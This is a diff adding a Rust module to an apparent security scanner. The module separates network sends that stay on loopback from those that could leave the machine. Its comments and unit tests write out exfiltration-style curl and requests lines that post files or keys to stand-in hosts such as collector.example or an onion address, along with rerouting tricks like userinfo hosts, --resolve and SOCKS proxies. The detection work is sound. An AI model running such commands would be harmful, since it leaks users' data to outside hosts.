@@ -1,0 +1,160 @@
+//! A send to this machine's own loopback address (fp18, the fourteenth
+//! sweep's `oh-my-wiki`: `curl -s -X POST http://127.0.0.1:8765/query`, a
+//! local wiki server's API called with its own token): whatever it sends
+//! stays on the machine, so it is no sink. A send still counts when the
+//! line could take the data elsewhere: a proxy (`socks5h://127.0.0.1:9050`
+//! is Tor's, and reaches any onion address), curl's `--resolve` or
+//! `--connect-to` (which point `localhost` anywhere), a variable or a
+//! template where a host stands (`http://${HOST}/`, a command's operand
+//! `"$URL"`, which curl sends to as well), or a call whose first argument
+//! is not the loopback URL itself (`requests.post(url, headers={"Origin":
+//! "http://localhost"})` sends to `url`).
+
+use std::net::Ipv4Addr;
+
+use crate::rules::Severity;
+
+/// Words that route a request through something else.
+const REROUTES: [&str; 5] = ["proxy", "proxies", "socks", "--resolve", "--connect-to"];
+
+/// Keeps a `network-send` line unless it sends only to a loopback URL
+/// written out on it (`Rule::confirm`).
+pub fn beyond_loopback(
+    line: &str,
+    at: usize,
+    _next: &dyn Fn(usize) -> Option<usize>,
+) -> Option<(Severity, String)> {
+    let rest = line.get(at..).unwrap_or_default();
+    (!only_to_loopback(line, rest)).then(|| (Severity::Medium, String::new()))
+}
+
+/// `line` names a URL, every URL it names is on a loopback host, nothing
+/// on it could reroute the request or hold another destination, and a
+/// call (`rest`, from the match on) is given the URL first.
+fn only_to_loopback(line: &str, rest: &str) -> bool {
+    let lower = line.to_ascii_lowercase();
+    if REROUTES.iter().any(|word| lower.contains(word))
+        || line.contains(" -x ")
+        || variable_operand(line)
+    {
+        return false;
+    }
+    let mut hosts = lower.split("://").skip(1).map(host_of).peekable();
+    if hosts.peek().is_none() || !hosts.all(loopback_host) {
+        return false;
+    }
+    match rest.find('(') {
+        Some(open) if !rest[..open].contains(char::is_whitespace) => {
+            let argument = rest[open + 1..].trim_start();
+            argument.starts_with(['"', '\''])
+                && argument[1..].to_ascii_lowercase().starts_with("http")
+        }
+        _ => true,
+    }
+}
+
+/// A shell word on `line` that is a variable (`$URL`, `"${U}"`, `%U%`)
+/// and no flag's value (`-H "Authorization: Bearer $TOKEN"` is a header):
+/// curl sends to each such operand as to a URL.
+fn variable_operand(line: &str) -> bool {
+    let words = shell_words(line);
+    words.windows(2).any(|pair| {
+        let word = pair[1].trim_start_matches(['"', '\'']);
+        word.starts_with(['$', '%', '`']) && !pair[0].starts_with('-')
+    })
+}
+
+/// `line` split at spaces outside quotes, each word as written.
+fn shell_words(line: &str) -> Vec<&str> {
+    let mut words = Vec::new();
+    let mut quote = None;
+    let mut start = None;
+    for (at, c) in line.char_indices() {
+        match (quote, c) {
+            (Some(q), _) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => {
+                quote = Some(c);
+                start.get_or_insert(at);
+            }
+            (None, c) if c.is_whitespace() => {
+                if let Some(from) = start.take() {
+                    words.push(&line[from..at]);
+                }
+            }
+            (None, _) => {
+                start.get_or_insert(at);
+            }
+        }
+    }
+    words.extend(start.map(|from| &line[from..]));
+    words
+}
+
+/// The host of a URL's text after `://`: its authority up to a path,
+/// query, quote or space, past any `user@` (`http://127.0.0.1@evil.example/`
+/// goes to `evil.example`), without its port.
+fn host_of(after_scheme: &str) -> &str {
+    let end = after_scheme
+        .find([
+            '/', '?', '#', '"', '\'', '\\', ')', ',', ';', '>', ' ', '\t',
+        ])
+        .unwrap_or(after_scheme.len());
+    let authority = &after_scheme[..end];
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    match host.strip_prefix('[') {
+        Some(bracketed) => bracketed.split(']').next().unwrap_or_default(),
+        None => host.split(':').next().unwrap_or_default(),
+    }
+}
+
+/// `localhost`, `127.0.0.0/8` or `::1`.
+fn loopback_host(host: &str) -> bool {
+    host == "localhost"
+        || host == "::1"
+        || host
+            .parse::<Ipv4Addr>()
+            .is_ok_and(|address| address.is_loopback())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn spared(line: &str) -> bool {
+        let at = line.find(|c: char| !c.is_whitespace()).unwrap_or(0);
+        beyond_loopback(line, at, &|_| None).is_none()
+    }
+
+    #[test]
+    fn a_send_written_to_this_machine_stays_here() {
+        assert!(spared("curl -s -X POST http://127.0.0.1:8765/query \\"));
+        assert!(spared(
+            "curl -X POST http://127.0.0.1:8765/query -H \"Authorization: Bearer $TOKEN\" -d '{\"q\":1}'"
+        ));
+        assert!(spared(
+            "curl -X POST http://localhost:3000/api/items -d '[1, 2]'"
+        ));
+        assert!(spared(
+            "requests.post('http://[::1]:8080/v1/ingest', json=rows)"
+        ));
+    }
+
+    #[test]
+    fn a_send_that_may_leave_the_machine_still_counts() {
+        for line in [
+            "curl -X POST https://collector.example/api -d @notes.txt",
+            "curl -X POST http://127.0.0.1@collector.example/in -d @notes.txt",
+            "curl -x socks5h://127.0.0.1:9050 -X POST http://abc.onion/in -d @k",
+            "curl --resolve localhost:80:203.0.113.9 -X POST http://localhost/in -d @k",
+            "curl -X POST http://localhost:8080/in https://collector.example/in -d @k",
+            "curl -X POST http://localhost:8080/in \"$URL\" -d @k",
+            "curl -X POST \"http://${HOST}:8080/in\" -d @k",
+            "requests.post(url, data=key, headers={'Origin': 'http://localhost'})",
+            "requests.post(ONION, json=payload, proxies=PROXIES)",
+            "curl -X POST -d @notes.txt",
+        ] {
+            assert!(!spared(line), "{line}");
+        }
+    }
+}
